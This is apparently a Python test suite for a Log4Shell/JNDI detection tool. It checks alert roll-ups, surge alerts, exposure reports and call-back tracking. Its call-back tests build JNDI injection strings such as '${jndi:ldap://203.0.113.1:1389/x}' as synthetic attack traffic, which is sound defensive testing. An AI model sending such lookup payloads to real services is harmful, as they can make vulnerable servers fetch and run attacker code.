#!/usr/bin/python3
"""Roll-ups: whatever is bounded, cut short or shared between workers, what they count is what there
was.

usage: test_volume.py PROGRAM
"""
import json
import os

import flows
from harness import Skip, TOP, demand, expect, expect_refused, figure, main, of_type, replay

MINUTE_US = 60 * 1000000
WRITE = ("--set", "volume.write=yes")
KINDS = ("class", "field", "scheme", "country", "network", "target")
ROLLUP, SURGE = 9000302, 9000301


def volume_of(event):
    return event["alert"].get("context", {}).get("volume")


def split(events):
    """The alerts themselves, and the roll-ups of them."""
    alerts = of_type(events, "alert")
    return ([event for event in alerts if not volume_of(event)],
            [volume_of(event) for event in alerts if event["alert"]["signature_id"] == ROLLUP])


def counts(volume, kind):
    return {row["value"]: row["count"] for row in volume.get(f"by_{kind}", [])}


def demand_sums(alerts, rollups):
    """All alerts are in the totals and, where they are of look-ups, in those of campaigns; what
    followed one is an alert in the totals alone."""
    totals = [one for one in rollups if one["scope"] == "total"]
    others = [one for one in rollups if one["scope"] != "total"]
    lookups = [one for one in alerts if "repeat" in one["alert"].get("context", {}).get("jndi", {})]
    demand(sum(one["alerts"] for one in totals) == len(alerts), "the totals do not add up")
    demand(sum(one["told"] for one in totals) == len(alerts), "told ones do not add up")
    demand(sum(one["alerts"] for one in others) == len(lookups), "campaigns do not add up")
    for one in rollups:
        for kind in KINDS:
            demand(sum(counts(one, kind).values()) == one["alerts"], f"by {kind}: {one}")


def run(lab, *args, out="out.json"):
    if os.path.exists(lab.path(out)):
        os.unlink(lab.path(out))
    expect(lab.run("-o", out, *args), 0)
    return lab.events(out)


def all_captures(lab):
    """Exact, valid EVE, and the same at any number of workers."""
    folder = os.path.join(TOP, "pcaps")
    names = [name for name in sorted(os.listdir(folder))
             if "pcap" in name.rpartition(".")[2] and "truncated" not in name]
    inputs = [word for name in names for word in ("-r", os.path.join(folder, name))]
    first = None
    for workers in ("0", "1", "4"):
        alerts, rollups = split(run(lab, *inputs, *WRITE, "--workers", workers))
        demand(len(alerts) > 100, f"{len(alerts)} alerts")
        demand_sums(alerts, rollups)
        first = first or (alerts, rollups)
        demand((alerts, rollups) == first, f"others with {workers} workers")
    alerts, rollups = split(run(lab, *inputs, *WRITE, "--set", "volume.campaigns=2", "--set",
                                "volume.values=1"))
    demand_sums(alerts, rollups)
    demand(any(one["scope"] == "other_campaigns" for one in rollups), "all had room")
    demand(any("other" in counts(one, "field") for one in rollups), "all fields had room")
    demand(max(len(counts(one, kind)) for one in rollups for kind in KINDS) == 2, "no bound")
    alerts, rollups = split(run(lab, *inputs))
    demand(len(alerts) == len(first[0]) and not rollups, "roll-ups that nobody asked for")


def what_is_told(lab):
    """A campaign of four clients, in two minutes, and a word of another."""
    start = flows.START_US // MINUTE_US * MINUTE_US
    made = []
    for i in range(6):
        made += flows.exchange((f"198.51.100.{1 + i % 4}", 40000 + i), start + i * 20000000,
                               f"/{i}", flows.lookup("same")).frames
    made += flows.exchange(("198.51.100.9", 41000), start + 70000000, "/other",
                           flows.lookup("other", "rmi")).frames
    made.sort(key=lambda frame: frame.time_us)
    lab.write("g", flows.pcap(made))
    alerts, rollups = split(run(lab, "-r", "g", *WRITE))
    demand_sums(alerts, rollups)
    scopes = [(one["scope"], one["alerts"], one["clients"]) for one in rollups]
    demand(scopes == [("campaign", 3, 3), ("total", 3, 3), ("campaign", 3, 3), ("campaign", 1, 1),
                      ("total", 4, 4)], f"{scopes}")
    campaign, total = rollups[2], rollups[4]
    demand(campaign["campaign"] == rollups[0]["campaign"], "another campaign")
    demand(campaign["callback"] == "203.0.113.9:1389", f"{campaign}")
    demand(counts(total, "scheme") == {"ldap": 3, "rmi": 1}, f"{total}")
    demand(counts(total, "target") == {"192.0.2.10": 4}, f"{total}")
    demand(counts(total, "field") == {"http.user_agent": 4}, f"{total}")
    demand(total["dollar_braces"] == 4 and total["interval_s"] == 60, f"{total}")
    demand(total["first_seen"] < total["last_seen"], f"{total}")
    demand("$" not in lab.text("out.json").decode(), "not safe to log")


def clients(lab):
    """Few clients are counted, many estimated: the step from one to the other, and far beyond."""
    start = flows.START_US // MINUTE_US * MINUTE_US
    for n in (63, 64, 65, 66, 600):
        made = []
        for i in range(n):
            made += flows.exchange((f"198.18.{i // 250}.{1 + i % 250}", 40000), start + i * 50000,
                                   "/", flows.lookup("same")).frames
        lab.write("g", flows.pcap(made))
        alerts, rollups = split(run(lab, "-r", "g", *WRITE, "--set", "volume.full_alerts=0"))
        demand_sums(alerts, rollups)
        for one in rollups:
            exact = n <= 64
            demand(one["clients"] == n if exact else abs(one["clients"] - n) < n / 8,
                   f"{n} clients are {one['clients']}")


def words(n, minute):
    """A minute in which a harmless opener is seen n times, in one body."""
    start = flows.START_US // MINUTE_US * MINUTE_US + minute * MINUTE_US
    talk = flows.Talk(("198.51.100.7", 30000 + minute), start_us=start).open()
    body = (flows.OPENER + "user}, ").encode() * n
    return talk.client(flows.request("/", body=body, method="POST")).server(
        flows.response()).close().frames


def surges(lab):
    """One alert when the rate leaves its baseline; none for a level that stays."""
    rates = [20] * 10 + [500] * 3 + [20] * 5 + [70] * 5
    lab.write("g", flows.pcap([frame for i, n in enumerate(rates) for frame in words(n, i)]))
    for workers in ("0", "3"):
        events = run(lab, "-r", "g", *WRITE, "--workers", workers)
        totals = [one for one in split(events)[1] if one["scope"] == "total"]
        curve = [one["dollar_braces"] for one in totals]
        demand(curve == rates, f"another curve: {curve}")
        told = [volume_of(event) for event in of_type(events, "alert")
                if event["alert"]["signature_id"] == SURGE]
        demand([(one["dollar_braces"], one["baseline"]) for one in told] == [(500, 20)], f"{told}")
    events = run(lab, "-r", "g", *WRITE, "--set", "volume.surge_least=501")
    demand(not [event for event in of_type(events, "alert")
                if event["alert"]["signature_id"] == SURGE], "fewer than the least")


def wave(n, minute, server="192.0.2.10", name="wave"):
    """n attacks of one campaign, one every half second."""
    start = flows.START_US // MINUTE_US * MINUTE_US + minute * MINUTE_US
    made = []
    for i in range(n):
        made += flows.exchange(("198.51.100.7", 20000 + minute % 10 * 1000 + i),
                               start + i * 500000, f"/{i}", flows.lookup(name),
                               server=(server, 80)).frames
    return made


def noise(lab):
    """What is not told is counted: all of it, wherever it is looked up."""
    made = (wave(150, 0) + wave(40, 0, "192.0.2.11") + wave(3, 1, name="another")
            + wave(10, 125))  # two hours later it is news again
    made.sort(key=lambda frame: frame.time_us)
    lab.write("g", flows.pcap(made))
    first = None
    for workers in ("0", "4"):
        events = run(lab, "-r", "g", *WRITE, "--set", "volume.full_alerts=5", "--workers", workers)
        alerts, rollups = split(events)
        totals = [one for one in rollups if one["scope"] == "total"]
        told = {}
        for event in alerts:
            key = event["alert"]["context"]["jndi"]["campaign"], event["dest_ip"]
            told.setdefault(key, []).append(event["alert"]["context"]["jndi"]["repeat"])
        repeats = sorted(told.values())
        demand(repeats == [[1, 2, 3], [1, 2, 3, 4, 5], [1, 2, 3, 4, 5, 1, 2, 3, 4, 5]],
               f"told: {repeats}")
        demand(sum(one["alerts"] for one in totals) == 203, f"{totals}")
        demand(sum(one["told"] for one in totals) == len(alerts) == 18, f"{totals}")
        demand(events[-1]["stats"]["detect"]["alert"] == 203, "the stats count less")
        first = first or (alerts, rollups)
        demand((alerts, rollups) == first, f"others with {workers} workers")
    ended = lab.run("-r", "g", "-o", "more.json", *WRITE, "--set", "volume.full_alerts=5")
    demand("Repeats told by roll-ups alone: 185 alerts." in ended.lines, ended.told())
    for args in ((), ("--set", "volume.full_alerts=5"), (*WRITE, "--set", "volume.full_alerts=0")):
        alerts, rollups = split(run(lab, "-r", "g", *args))
        demand(len(alerts) == 203, f"{args}: {len(alerts)} alerts")
        last = [event["alert"]["context"]["jndi"]["repeat"] for event in alerts
                if event["timestamp"] < "2021-12-12T23:05:20"][-1]
        demand(last > 100 and bool(rollups) == (WRITE[0] in args and WRITE[1] in args), f"{args}")


def exposure(lab, *args):
    """What --exposure writes."""
    expect(lab.run("-o", "/dev/null", "--exposure", "x.json", *args), 0)
    return json.loads(lab.text("x.json"))


def who_is_exposed(lab):
    """Attempts by host, field and campaign, and how much of the host's traffic was seen."""
    talk = flows.Talk(("198.51.100.7", 33333), ("192.0.2.12", 443), flows.START_US).open()
    hello = bytes.fromhex("16030100c8010000c40303") + bytes(194)
    talk.client(hello).server(bytes.fromhex("160303007a020000760303") + bytes(116))
    talk.client(bytes.fromhex("1703030400") + bytes(1024)).close()
    made = (wave(5, 0) + wave(2, 0, "192.0.2.11", "other") + wave(1, 1, "192.0.2.11")
            + talk.frames)
    made.sort(key=lambda frame: frame.time_us)
    lab.write("g", flows.pcap(made))
    lab.write("assets", "192.0.2.10,shop,team,internet,yes\n192.0.2.11,shop 2,team\n")
    first = None
    for workers in ("0", "1", "4"):
        found = exposure(lab, "-r", "g", "--set", "assets=assets", "--workers", workers)
        first = first or found
        demand(found == first, f"another exposure with {workers} workers")
    hosts = {host["ip"]: host for host in first["hosts"]}
    demand([host["ip"] for host in first["hosts"]] == ["192.0.2.10", "192.0.2.11", "192.0.2.12"],
           f"{list(hosts)}")
    shop, dark = hosts["192.0.2.10"], hosts["192.0.2.12"]
    demand((shop["asset"], shop["attempts"], shop["flows"], shop["inspected_share"])
           == ("shop", 5, 5, 1), f"{shop}")
    demand(counts(shop, "field") == {"http.user_agent": 5} and len(shop["campaigns"]) == 1,
           f"{shop}")
    demand(len(hosts["192.0.2.11"]["campaigns"]) == 2, f"{hosts['192.0.2.11']}")
    demand(dark["attempts"] == 0 and dark["inspected_share"] < 0.5, f"{dark}")
    demand([(one["asset"], one["hosts"], one["attempts"]) for one in first["assets"]]
           == [("shop", 1, 5), ("shop 2", 1, 3)], f"{first['assets']}")
    campaigns = first["campaigns"]["campaigns"]
    demand(sorted((one["attempts"], one["targets"]) for one in campaigns) == [(2, 1), (6, 2)],
           f"{campaigns}")


def exposure_is_bounded(lab):
    """What has no row is in the sum of the others, at any number of workers."""
    made = [frame for i in range(100) for frame in wave(1, i % 10, f"192.0.2.{i + 1}", f"n{i}")]
    lab.write("g", flows.pcap(made))
    for workers in ("0", "4"):
        found = exposure(lab, "-r", "g", "--set", "exposure.hosts=16", "--set",
                         "exposure.campaigns=16", "--workers", workers)
        demand(len(found["hosts"]) == 16 and found["count"] == 16, "more than the limit")
        alerts = sum(host["attempts"] for host in found["hosts"])
        demand(alerts + found["other_hosts"]["attempts"] == 100, f"{alerts} and {found}")
        campaigns = found["campaigns"]
        demand(sum(one["attempts"] for one in campaigns["campaigns"])
               + campaigns["other_campaigns"]["attempts"] == 100, f"{campaigns}")
    expect_refused(lab.run("-r", "g", "-o", "-", "--exposure", "none/x"),
                   r"^cannot write 'none/x': No such file or directory")
    expect_refused(lab.run("-r", "g", "-o", "-", "--exposure", "-"),
                   r"^--exposure - and events on standard output exclude each other$")
    ended = lab.run("-r", "g", "-o", "out.json", "--exposure", "-")
    demand(ended.code == 0 and json.loads(ended.out)["count"] == 100, ended.told())
    expect(lab.run("-r", "g", "-o", "out.json", "--exposure", "/dev/full"), 3,
           r"^cannot write '/dev/full': No space left on device; the exposure is lost")
    told = exposure(lab, "-r", "g", "--events", "flow")
    demand(sum(host["attempts"] for host in told["hosts"]) == 100, "without alerts")


def schema(lab):
    """Valid, where the schema is at hand."""
    check = replay.schema_check()
    if check is None:
        raise Skip("the schema is not at hand (JNDIWATCH_SHARED)")
    lab.write("g", flows.pcap(flows.good(4) + [frame for i in range(1, 8)
                                              for frame in words(500 if i == 7 else 1, i)]))
    events = run(lab, "-r", "g", *WRITE)
    demand(len([event for event in of_type(events, "alert") if volume_of(event)]) > 8, "too few")
    for event in events:
        wrong = list(check(event))
        demand(not wrong, f"{wrong[:1]} in {event}")


def stories(lab):
    """Call-backs are bounded in number and time, and what goes early is counted; what followed is
    told at the end, and is the same with workers."""
    attempts = [flows.exchange(("198.51.100.7", 40000 + i), flows.START_US + i * 100000,
                               agent=b"$" + b"{jndi:ldap://203.0.113.%d:1389/x}" % (i + 1))
                for i in range(3)]
    calls = [flows.Talk(("192.0.2.10", 41000 + i), (f"203.0.113.{i + 1}", 1389),
                        flows.START_US + 10150000 + i * 10000).open().close() for i in range(3)]
    lab.write("g", flows.pcap([f for talk in attempts + calls for f in talk.frames]))
    for args, hosts, evicted in (([], "123", 0), (["--set", "story.callbacks=2"], "23", 1),
                                 (["--set", "story.callbacks=0"], "", 0),
                                 (["--set", "story.remember=10 s"], "3", 0)):
        before = None
        for workers in ("0", "4"):
            ended = lab.run("-r", "g", "-o", "out.json", "--workers", workers, *args)
            expect(ended, 0)
            events = lab.events("out.json")
            os.remove(lab.path("out.json"))
            told = [event for event in of_type(events, "alert")
                    if event["alert"]["signature_id"] == 9000202]
            called = [event["alert"]["context"]["jndi"]["callback"]["ip"] for event in told]
            demand(called == [f"203.0.113.{host}" for host in hosts], f"{args}: {called}")
            demand(figure(events, "story_evicted") == evicted, f"{args}: evicted")
            line = f"Attempts that something followed: {len(hosts)} called_back."
            demand((line in ended.lines) == bool(hosts), ended.told())
            demand(before in (None, told), f"{args}: otherwise with workers")
            before = told


def stories_of_one_field(lab):
    """A field that holds several look-ups: whichever host is called back is of its story."""
    text = b"".join(b"$" + b"{jndi:%s}" % name for name in (
        b"x", b"ldap://203.0.113.1:1389/a", b"rmi://203.0.113.2/b", b"ldap://203.0.113.2:1389/c"))
    attempt = flows.exchange(("198.51.100.7", 40000), flows.START_US, agent=text)
    for host, port, begun in ((1, 1389, True), (2, 1099, True), (2, 1389, True), (2, 1390, False),
                              (3, 1389, False)):
        call = flows.Talk(("192.0.2.10", 41000), (f"203.0.113.{host}", port),
                          flows.START_US + 10150000).open().close()
        lab.write("g", flows.pcap(attempt.frames + call.frames))
        events = run(lab, "-r", "g")
        told = [event["dest_port"] for event in of_type(events, "alert")
                if event["alert"]["signature_id"] == 9000202]
        demand(told == [port] * begun, f"{host}:{port}: {told}")


TESTS = [
    ("stories", stories),
    ("stories of one field", stories_of_one_field),
    ("roll-ups of all captures add up", all_captures),
    ("what a roll-up tells", what_is_told),
    ("many clients", clients),
    ("surges", surges),
    ("repeats", noise),
    ("exposure", who_is_exposed),
    ("exposure is bounded", exposure_is_bounded),
    ("the schema", schema),
]

if __name__ == "__main__":
    main(__doc__, TESTS)
